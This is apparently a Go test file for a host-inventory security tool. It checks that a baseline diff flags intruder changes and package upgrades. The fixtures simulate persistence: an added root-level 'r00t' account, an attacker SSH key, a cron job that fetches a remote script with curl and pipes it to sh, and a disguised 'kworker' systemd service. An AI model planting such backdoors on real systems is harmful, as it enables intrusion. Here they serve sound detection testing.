package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vigilsec/vigil/internal/snapshot"
)

// change is what the diff tests compare of each reported change.
type change struct {
	Kind     string `json:"kind"`
	Category string `json:"category"`
	Subject  string `json:"subject"`
	Severity string `json:"severity"`
	Field    string `json:"field,omitempty"`
}

type diffOutput struct {
	Baseline *string  `json:"baseline"`
	Changes  []change `json:"changes"`
}

// runDiff runs inventory --diff --format json with args and decodes it.
func runDiff(t *testing.T, args ...string) (diffOutput, string) {
	t.Helper()
	out, stderr := mustVigil(t, append([]string{"inventory", "--diff", "--format", "json"}, args...)...)
	var d diffOutput
	if err := json.Unmarshal([]byte(out), &d); err != nil {
		t.Fatalf("diff output is not JSON: %v\n%s", err, out)
	}
	if d.Changes == nil {
		t.Errorf("changes is null, want a list:\n%s", out)
	}
	return d, stderr
}

// edit rewrites one file of the tree with fn.
func edit(t *testing.T, root, name string, fn func(string) string) {
	t.Helper()
	p := filepath.Join(root, name)
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(fn(string(b))), 0o644); err != nil {
		t.Fatal(err)
	}
}

func appendLine(line string) func(string) string {
	return func(s string) string { return s + line + "\n" }
}

func write(t *testing.T, root, name, content string) {
	t.Helper()
	p := filepath.Join(root, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// removeParagraph drops the dpkg status paragraph of pkg.
func removeParagraph(t *testing.T, pkg string) func(string) string {
	return func(s string) string {
		paras := strings.Split(s, "\n\n")
		var keep []string
		for _, p := range paras {
			if !strings.HasPrefix(strings.TrimLeft(p, "\n"), "Package: "+pkg+"\n") {
				keep = append(keep, p)
			}
		}
		if len(keep) != len(paras)-1 {
			t.Fatalf("package %s: %d paragraphs removed, want 1", pkg, len(paras)-len(keep))
		}
		return strings.Join(keep, "\n\n")
	}
}

const attackerKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILBDm5mn6W7n8veeH11RziNOO8nU0qz42G4gqkE5ZETd attacker@evil"

// TestInventoryDiff saves a baseline of a tree, changes the tree the way
// an intruder and an upgrade would, and checks what --diff reports.
func TestInventoryDiff(t *testing.T) {
	root := distroTree(t, "debian")
	dataDir := t.TempDir()
	base := []string{"--root", root, "--data-dir", dataDir}

	// The first --diff has nothing to compare with; it saves the baseline.
	d, stderr := runDiff(t, base...)
	if d.Baseline != nil || len(d.Changes) != 0 || stderr != "" {
		t.Fatalf("first --diff = %+v (stderr %q), want a null baseline, no changes, no warnings", d, stderr)
	}
	if d, _ = runDiff(t, base...); d.Baseline == nil || len(d.Changes) != 0 {
		t.Fatalf("--diff of an unchanged tree = %+v, want no changes against a baseline", d)
	}

	edit(t, root, "etc/passwd", appendLine("r00t:x:0:0::/root:/bin/bash"))
	edit(t, root, "home/alice/.ssh/authorized_keys", appendLine(attackerKey))
	write(t, root, "etc/cron.d/sysupdate", "*/5 * * * * root curl -fsS http://198.51.100.7/u.sh | sh\n")
	write(t, root, "etc/systemd/system/kworker.service",
		"[Service]\nExecStart=/var/tmp/.x/kworker\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n")
	if err := os.Symlink("/etc/systemd/system/kworker.service",
		filepath.Join(root, "etc/systemd/system/multi-user.target.wants/kworker.service")); err != nil {
		t.Fatal(err)
	}
	// apt upgrade of nginx (both binary packages of the source), and
	// apt remove openssh-server.
	edit(t, root, "var/lib/dpkg/status", func(s string) string {
		return strings.ReplaceAll(s, "1.22.1-9+deb12u11", "1.22.1-9+deb12u12")
	})
	edit(t, root, "var/lib/dpkg/status", removeParagraph(t, "openssh-server"))

	d, stderr = runDiff(t, base...)
	if d.Baseline == nil || stderr != "" {
		t.Errorf("baseline = %v, stderr %q; want a baseline and no warnings", d.Baseline, stderr)
	}
	want := []change{
		{Kind: "added", Category: "accounts", Subject: `user "r00t"`, Severity: "critical"},
		{Kind: "added", Category: "accounts", Subject: `user "alice"`, Severity: "high", Field: "authorized_key"},
		{Kind: "added", Category: "scheduled_tasks", Subject: "cron /etc/cron.d/sysupdate", Severity: "high"},
		{Kind: "added", Category: "startup_items", Subject: "systemd kworker.service", Severity: "high"},
		{Kind: "changed", Category: "middleware", Subject: "nginx", Severity: "info", Field: "version"},
		{Kind: "changed", Category: "packages", Subject: "deb nginx-common:all", Severity: "info", Field: "version"},
		{Kind: "changed", Category: "packages", Subject: "deb nginx:amd64", Severity: "info", Field: "version"},
		{Kind: "removed", Category: "packages", Subject: "deb openssh-server:amd64", Severity: "info"},
	}
	if diff := cmp.Diff(want, d.Changes); diff != "" {
		t.Errorf("--diff changes mismatch (-want +got):\n%s", diff)
	}

	// The changed tree is the new baseline.
	if d, _ = runDiff(t, base...); len(d.Changes) != 0 {
		t.Errorf("third --diff reported %+v, want no changes", d.Changes)
	}

	t.Run("only_keeps_other_categories", func(t *testing.T) {
		edit(t, root, "etc/passwd", appendLine("guest:x:1002:1002::/home/guest:/bin/bash"))
		d, _ := runDiff(t, append(base, "--only", "accounts")...)
		want := []change{{Kind: "added", Category: "accounts", Subject: `user "guest"`, Severity: "medium"}}
		if diff := cmp.Diff(want, d.Changes); diff != "" {
			t.Errorf("--only accounts --diff mismatch (-want +got):\n%s", diff)
		}
		// The run above updated accounts only: the full run finds every
		// other category as it was, not removed.
		if d, _ := runDiff(t, base...); len(d.Changes) != 0 {
			t.Errorf("full --diff after --only accounts reported %+v, want no changes", d.Changes)
		}
	})

	t.Run("corrupt_snapshot", func(t *testing.T) {
		p := snapshot.New(dataDir).Path(root)
		garbage := []byte(`{"schema_version":1,"accounts":{"users":[{"na`)
		if err := os.WriteFile(p, garbage, 0o600); err != nil {
			t.Fatal(err)
		}
		d, stderr := runDiff(t, base...)
		if d.Baseline != nil || len(d.Changes) != 0 {
			t.Errorf("--diff over a corrupt snapshot = %+v, want a null baseline and no changes", d)
		}
		if !strings.Contains(stderr, "level=WARN") || !strings.Contains(stderr, "corrupt") {
			t.Errorf("stderr = %q, want a warning about the corrupt snapshot", stderr)
		}
		if b, err := os.ReadFile(p + ".corrupt"); err != nil || string(b) != string(garbage) {
			t.Errorf("corrupt snapshot not kept as %s.corrupt: %q, %v", p, b, err)
		}
		if d, stderr := runDiff(t, base...); d.Baseline == nil || len(d.Changes) != 0 || stderr != "" {
			t.Errorf("--diff after recovery = %+v (stderr %q), want a baseline and no changes", d, stderr)
		}
	})
}
